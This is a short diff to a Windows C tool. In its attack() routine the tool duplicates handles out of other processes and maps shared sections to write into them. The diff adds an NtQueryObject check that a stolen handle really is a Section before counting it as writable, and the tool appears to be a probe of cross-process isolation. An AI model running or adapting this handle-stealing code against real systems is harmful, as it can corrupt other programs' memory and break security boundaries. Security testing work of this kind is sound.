@@ -26,6 +26,7 @@
 #include <tlhelp32.h>
 
 NTSTATUS NTAPI NtQueryInformationProcess(HANDLE, PROCESSINFOCLASS, PVOID, ULONG, PULONG);
+NTSTATUS NTAPI NtQueryObject(HANDLE, OBJECT_INFORMATION_CLASS, PVOID, ULONG, PULONG);
 
 static wchar_t data[MAX_PATH];
 static int level;
@@ -299,6 +300,19 @@ static HANDLE next_section(HANDLE process, uintptr_t *from)
     return NULL;
 }
 
+// The other process may have closed the section meanwhile, and given its number to another handle.
+static int is_section(HANDLE handle)
+{
+    struct
+    {
+        UNICODE_STRING name;
+        unsigned char rest[1024];
+    } type;
+    ULONG length;
+    return !NtQueryObject(handle, ObjectTypeInformation, &type, sizeof type, &length) && type.name.Length == 7 * sizeof(wchar_t)
+        && !wcsncmp(type.name.Buffer, L"Section", 7);
+}
+
 static int scribble(HANDLE section, DWORD access)
 {
     unsigned char *view = MapViewOfFile(section, access, 0, 0, 0);
@@ -334,7 +348,7 @@ static void attack(void)
                 HANDLE more;
                 if (!DuplicateHandle(processes[p], (HANDLE)value, GetCurrentProcess(), &more, rights[i], FALSE, 0))
                     continue;
-                if (rights[i] != MAXIMUM_ALLOWED)
+                if (rights[i] != MAXIMUM_ALLOWED && is_section(more))
                 {
                     fprintf(stderr, "a handle with the rights %08lx is to be had\n", rights[i]);
                     writable++;
